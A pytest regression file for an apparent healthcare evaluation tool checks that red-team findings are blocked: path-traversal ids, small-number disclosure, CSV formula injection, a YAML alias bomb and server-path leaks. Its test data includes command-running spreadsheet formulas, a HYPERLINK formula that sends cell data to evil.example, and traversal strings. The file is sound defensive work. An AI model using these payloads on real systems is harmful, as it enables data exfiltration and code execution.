"""The holes a red-team pass found, each reproduced as an attack that must now fail safely.

Paths from ids, small numbers in published copies, formula injection in CSV, bad input that used to
validate and then crash, unwritable reports. (Records expressions, database passwords and stale
caches are in tests/records/test_records_trust.py, tests/records/test_records_postgres.py and
tests/report/test_runner_kernel.py; the broken-input corpus has the id, huge-value and alias-bomb
cases.)"""

from __future__ import annotations

import csv
import errno
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from qieval.config import load_config
from qieval.disclosure import DisclosurePolicy, policy_for, small_mask, suppress_series
from qieval.format import UnsafePathError, csv_safe_text, csv_text, path_inside, unsafe_name

# ---- 1. ids become file names ------------------------------------------------------------------


@pytest.mark.parametrize("name", ["./../../../../tmp/x", "../x", "a/../../b", "..", ".hidden", "a b", "x" * 65,
                                  "", "-rf", "a\\b", "a\0b", "ok/"])
def test_unsafe_ids_are_named(name):
    assert unsafe_name(name) is not None


@pytest.mark.parametrize("name", ["hillside", "abbey_view", "A1", "site-2.v3", "x" * 64])
def test_safe_ids_pass(name):
    assert unsafe_name(name) is None


@pytest.mark.parametrize("name", ["../x.html", "../../../../tmp/x.json", "/etc/x.html", "a/b.html", "..", ".",
                                  "", "x" * 250 + ".html"])
def test_path_inside_refuses_to_leave_its_folder(tmp_path, name):
    with pytest.raises(UnsafePathError):
        path_inside(tmp_path / "sites", name)


def test_path_inside_keeps_plain_names(tmp_path):
    assert path_inside(tmp_path, "riverside.failed.html") == tmp_path / "riverside.failed.html"


def test_a_job_with_a_traversal_stem_writes_nothing_outside(tmp_path):
    """The farm's job runner builds every output name through path_inside: a crafted stem fails
    before any kernel starts or any file is written (before: `.{site_id}.json.tmp` escaped)."""
    from qieval.farm.runner import Job, run_job

    out = tmp_path / "reports" / "p" / "sites"
    job = Job("p", "P", str(tmp_path), str(tmp_path / "nb.ipynb"), str(out), "../../../x", {})
    with pytest.raises(UnsafePathError):
        run_job(job)
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["p", "reports", "sites"]


def test_validate_rejects_traversal_and_overlong_ids(demo_root, monkeypatch):
    """`qieval validate` names each unsafe id as FILE:ROW:COLUMN (exit 2, no traceback)."""
    monkeypatch.chdir(demo_root)
    sites = demo_root / "data/deprescribing/sites.csv"
    rows = sites.read_text().splitlines()
    sites.write_text("\n".join(rows + ["./../../../../tmp/x,Evil,PCN,1000", "s" * 300 + ",Long,PCN,1000"]) + "\n")
    out = subprocess.run([sys.executable, "-m", "qieval.cli", "validate", "params/deprescribing.yaml"],
                         capture_output=True, text=True, timeout=120)
    assert out.returncode == 2 and "Traceback" not in out.stderr
    lines = out.stderr.splitlines()
    assert any(line.startswith(f"data/deprescribing/sites.csv:{len(rows) + 1}:site_id: unsafe id")
               for line in lines), out.stderr
    assert any(line.startswith(f"data/deprescribing/sites.csv:{len(rows) + 2}:site_id: unsafe id")
               and "(300 characters)" in line and len(line) < 400 for line in lines), out.stderr


# ---- 2. small numbers in commissioner and public copies ------------------------------------------

def test_a_count_recomputed_in_floating_point_is_still_small():
    """7/6747 × 6747 = 7.000000000000001 got past a `> 7` test into the counterfactual chart."""
    recomputed = 7 / 6747 * 6747
    assert recomputed != 7  # the floating-point fact the attack relied on
    policy = DisclosurePolicy()
    assert policy.is_small(recomputed)
    assert small_mask(policy, pd.Series([recomputed, 7.49, 7.5, 0.0, np.nan, 1.0])).tolist() == \
        [True, True, False, False, False, True]
    series = pd.DataFrame({"y": [recomputed / 6747, 0.5], "numerator": [recomputed, 100.0],
                           "denominator": [6747.0, 200.0]})
    shown, note = suppress_series(series, policy)
    assert np.isnan(shown["y"].iloc[0]) and shown["y"].iloc[1] == 0.5 and note


def _small_group_months(values: pd.DataFrame, low: int = 1, high: int = 7) -> int:
    """Independent count: group-months whose numerator or denominator, as a whole number, is 1–7."""
    n = 0
    for num, den in zip(values["numerator"], values["denominator"]):
        counts = [round(c) for c in (num, den) if c == c]
        n += any(low <= c <= high for c in counts)
    return n


def test_equity_section_applies_the_policy(demo_root_session):
    """The equity table and small multiples of a public copy were identical to the evaluator copy."""
    from qieval.io.load import load_project
    from qieval.report.equity import breakdown_values, measure_equity

    data = load_project(demo_root_session / "params" / "opioids.yaml")
    m = next(m for m in data.config.measures if m.breakdown)
    site = data.config.sites[0]
    values = breakdown_values(data, m, site)
    expected = _small_group_months(values)
    assert expected > 0, "the demo site has small group-month counts (the attack's premise)"

    evaluator = measure_equity(data, m, site, policy_for("evaluator", data.config))
    public = measure_equity(data, m, site, policy_for("public", data.config))
    assert "not shown" not in evaluator
    assert f"{expected} of {len(values)} group-month points not shown" in public
    assert public != evaluator

    # a stricter policy hides whole groups: marker in every statistic cell, not in the sentences
    strict = DisclosurePolicy(high=10_000)
    html = measure_equity(data, m, site, strict)
    assert html.count("<td>*</td>") >= 4 and "not shown (small numbers)" in html


def test_network_charts_do_not_draw_small_pooled_counts(demo_root_session):
    """The pooled SPC charts of a commissioner network report drew months whose pooled count was
    1–7 (pccc: admissions avoided, packages within 24 h)."""
    import re

    from qieval.measures.series import measure_series
    from qieval.report.network_report import prepare

    params = demo_root_session / "params" / "pccc.yaml"
    evaluator = prepare(params, None, "evaluator")
    commissioner = prepare(params, None, "commissioner")
    expected = []
    for m in commissioner.config.measures:
        if m.unit == "continuous" or m.id not in commissioner.spc:
            continue
        k = _small_group_months(measure_series(commissioner.pooled, commissioner.config, m))
        if k:
            expected.append(f"{k} of {len(commissioner.spc[m.id].result)} points not shown")
    assert expected, "the demo's pooled series have small counts (the attack's premise)"
    notes = re.findall(r'<p class="notes">(\d+ of \d+ points not shown)', commissioner.charts())
    assert notes == expected
    assert "points not shown" not in evaluator.charts()


def test_pdsa_free_text_is_withheld_unless_published(demo_root_session):
    """PDSA free text ("rose from 0 to 4") was printed as written in public copies."""
    from qieval.report.site_report import prepare

    params = demo_root_session / "params" / "deprescribing.yaml"
    evaluator = prepare(params, "riverside", None, "evaluator")
    public = prepare(params, "riverside", None, "public")
    study = next(s for s in evaluator.cycles["study"] if isinstance(s, str) and s.strip())
    assert study.split("<")[0][:20] in evaluator.cycles_table() or "&" in study
    table = public.cycles_table()
    assert study not in table and "not published in this copy" in table
    assert "shown as the team entered it" in table and "disclosure.pdsa_text" in table


def _manifest(folder: Path, audience: str, site: str) -> None:
    (folder / "sites").mkdir(parents=True)
    (folder / "sites" / f"{site}.html").write_text("<html></html>")
    (folder / "manifest.json").write_text(json.dumps({
        "project": "p", "title": "P", "audience": audience, "site_order": [site],
        "sites": {site: {"status": "ok", "html": f"sites/{site}.html", "hash": "ab"}},
        "project_reports": {}}))


def test_restricted_and_public_copies_have_separate_indexes(tmp_path):
    from qieval.farm.index import write_index

    reports = tmp_path / "reports"
    _manifest(reports / "p", "evaluator", "restricted_site")
    _manifest(reports / "p" / "public", "public", "public_site")
    _manifest(reports / "p" / "commissioner", "commissioner", "commissioner_site")
    evaluator = write_index(reports).read_text()
    public = (reports / "index-public.html").read_text()
    commissioner = (reports / "index-commissioner.html").read_text()
    assert "restricted_site" in evaluator and "public_site" not in evaluator and "commissioner_site" not in evaluator
    assert "public_site" in public and "restricted_site" not in public and "commissioner_site" not in public
    assert "commissioner_site" in commissioner and "restricted_site" not in commissioner
    assert 'data-audience="public"' in public and "RESTRICTED" in evaluator


def test_provenance_paths_are_relative_to_the_project(tmp_path):
    from qieval.report.provenance import project_relative, provenance

    root = tmp_path / "project"
    (root / "data").mkdir(parents=True)
    inside, outside = root / "data" / "sites.csv", tmp_path / "elsewhere.csv"
    inside.write_text("a\n")
    outside.write_text("b\n")
    assert project_relative(inside, root) == "data/sites.csv"
    assert project_relative(outside, root) == "elsewhere.csv"
    p = provenance({"sites": inside, "records": outside}, inside, root)
    assert all(not Path(k).is_absolute() and str(tmp_path) not in k for k in p["inputs"])


def test_commissioner_copies_carry_no_server_paths(rendered):
    """No absolute project path in any commissioner file (HTML, executed notebook, CSV, manifest),
    and the restricted index does not list them."""
    roots = {str(rendered.root), str(rendered.root.resolve())}
    copies = rendered.reports / "deprescribing" / "commissioner"
    files = [p for p in copies.rglob("*") if p.is_file() and p.suffix in (".html", ".ipynb", ".csv", ".json", ".md")]
    assert any(p.suffix == ".ipynb" for p in files)
    leaks = [str(p.relative_to(rendered.reports)) for p in files
             if any(r in p.read_text(encoding="utf-8", errors="replace") for r in roots)]
    assert not leaks, leaks
    index = (rendered.reports / "index.html").read_text(encoding="utf-8")
    assert "commissioner/" not in index
    assert "commissioner/sites/" in (rendered.reports / "index-commissioner.html").read_text(encoding="utf-8")


# ---- 5. formula injection ---------------------------------------------------------------------

@pytest.mark.parametrize("cell, expected", [
    ('=HYPERLINK("http://x","click")', '\'=HYPERLINK("http://x","click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("-3.5", "-3.5"), ("+12", "+12"), ("-1e3", "-1e3"), ("Riverside", "Riverside"), (-3.5, -3.5), (None, None),
])
def test_csv_cells_are_neutralised(cell, expected):
    assert csv_safe_text(cell) == expected


def test_accreditation_status_csv_has_no_live_formulas():
    from qieval.accreditation.evaluation import STATUS_COLUMNS, status_csv_text

    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
               "-1+1", "\t=1", "=1"]
    status = pd.DataFrame({c: ["x"] * len(hostile) for c in STATUS_COLUMNS})
    first_text = next(c for c in STATUS_COLUMNS if c not in ("site_id",))
    status[first_text] = hostile
    status["site_id"] = [f"s{i}" for i in range(len(hostile))]
    rows = list(csv.reader(io.StringIO(status_csv_text(status))))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert all(f"'{h}" in cells for h in hostile)
    # numbers stay numbers
    assert list(csv.reader(io.StringIO(csv_text(["a", "b"], [[-3.5, "-3.5"]]))))[1] == ["-3.5", "-3.5"]


# ---- 6. bad input that validated and then crashed ----------------------------------------------

def test_a_value_on_a_percent_row_is_a_warning(demo_root):
    from qieval.io.load import validate_project

    mv = demo_root / "data/deprescribing/measure_values.csv"
    rows = mv.read_text().splitlines()
    k = next(i for i, r in enumerate(rows) if ",register_prevalence," in r)
    assert rows[k].endswith(",")
    rows[k] += "4.5"
    mv.write_text("\n".join(rows) + "\n")
    errors, warnings = validate_project(demo_root / "params/deprescribing.yaml")
    assert not errors
    assert [(w.row, w.column) for w in warnings] == [(k + 1, "value")]
    assert "ignored for a percent measure" in warnings[0].message


def test_a_constant_continuous_series_says_why_there_is_no_model(demo_root_session):
    """statsmodels: "The first guess on the deviance function returned a nan" → a reason in words."""
    from qieval.io.load import load_project, site_cycles, site_values
    from qieval.report.attribution_section import fit_measure

    data = load_project(demo_root_session / "params" / "deprescribing.yaml")
    m = next(m for m in data.config.measures if m.unit == "continuous")
    values = site_values(data, "riverside")
    values.loc[values["measure_id"] == m.id, "value"] = 12.0
    result = fit_measure(values, site_cycles(data, "riverside"), m)
    assert isinstance(result, str) and "same value (12) in every period" in result


def test_alias_bomb_is_refused_quickly(tmp_path):
    import time

    levels = ['project: {id: p, title: &a "lol"}'] + [
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 9) + "]" for i in range(9)]
    (tmp_path / "params").mkdir()
    (tmp_path / "params" / "p.yaml").write_text("\n".join(levels) + "\n")
    from qieval.errors import InputError

    t0 = time.perf_counter()
    with pytest.raises(InputError) as exc:
        load_config(tmp_path / "params" / "p.yaml")
    assert time.perf_counter() - t0 < 5
    [problem] = exc.value.problems
    assert problem.row is not None and "alias" in problem.message


# ---- 7. read-only or full reports/ -------------------------------------------------------------

def test_os_error_is_one_line():
    from qieval.cli import _os_error_line

    line = _os_error_line(OSError(errno.ENOSPC, "No space left on device", "reports/p/manifest.json"))
    assert "\n" not in line and "reports/p/manifest.json" in line and "disk is full" in line


def test_unwritable_manifest_is_a_one_line_error(demo_root):
    """`save_manifest` failing (read-only, full disk; here the manifest's name is taken by a folder,
    which fails for root too) gives one line and a non-zero exit, not a traceback."""
    (demo_root / "reports" / "deprescribing" / "manifest.json").mkdir(parents=True)
    out = subprocess.run([sys.executable, "-m", "qieval.cli", "run", "params/deprescribing.yaml", "--sites",
                          "riverside", "--no-project-reports", "--workers", "1", "--quiet"],
                         cwd=demo_root, capture_output=True, text=True, timeout=300)
    assert out.returncode != 0
    assert "Traceback" not in out.stderr, out.stderr[-3000:]
    errors = [line for line in out.stderr.splitlines() if line.startswith("qieval: cannot write")]
    assert len(errors) == 1 and "reports/deprescribing/manifest.json" in errors[0], out.stderr[-3000:]
    shutil.rmtree(demo_root / "reports")


def test_icon_matrix_hides_suppressed_values_in_its_sort_attribute(demo_root_session):
    """A latest value shown as the marker must not sit in the cell's data-value (page source)."""
    import re

    from qieval.report.network_report import prepare

    report = prepare(demo_root_session / "params" / "pccc.yaml", None, "commissioner")
    report.policy = DisclosurePolicy(high=10**9)  # every count small: every count-based value withheld
    cells = re.findall(r'data-value="([^"]*)"><div class="icons">.*?</div>([^<]*)', report.icon_matrix())
    marked = [v for v, text in cells if text.startswith("* ")]
    assert marked and all(v == "" for v in marked), cells[:10]
    assert any(v for v, text in cells if not text.startswith("* "))  # continuous values still sort


def test_published_failure_pages_carry_no_server_paths(demo_root):
    """A commissioner/public copy that fails: its failure page, failed notebook and index entry name
    no absolute path on the server (tracebacks run through qieval's and Python's install folders)."""
    import nbformat

    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_code_cell('params_path = ""\nsite_id = ""\noutput_dir = ""\naudience = "evaluator"',
                                  metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell("import json, pathlib\n"
                                  "json.loads(pathlib.Path(params_path).resolve().parent.joinpath('x.json').read_text())")])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["language_info"] = {"name": "python"}
    (demo_root / "notebooks").mkdir()
    nbformat.write(nb, demo_root / "notebooks" / "site_report.ipynb")
    out = subprocess.run([sys.executable, "-m", "qieval.cli", "run", "params/deprescribing.yaml", "--sites", "riverside",
                          "--no-project-reports", "--workers", "1", "--quiet", "--audience", "public"],
                         cwd=demo_root, capture_output=True, text=True, timeout=300)
    assert out.returncode == 1, out.stderr[-2000:]
    public = demo_root / "reports" / "deprescribing" / "public"
    files = [public / "sites" / "riverside.failed.html", public / "sites" / "riverside.failed.ipynb",
             public / "manifest.json", demo_root / "reports" / "index-public.html"]
    prefixes = {str(demo_root), str(demo_root.resolve()), sys.prefix, str(Path(sys.prefix).resolve()),
                sys.base_prefix + "/lib"}
    for f in files:
        text = f.read_text(encoding="utf-8")
        assert "FileNotFoundError" in text or f.name == "index-public.html" or f.name == "manifest.json"
        leaked = [p for p in prefixes if p in text]
        assert not leaked, f"{f.name} names {leaked}"
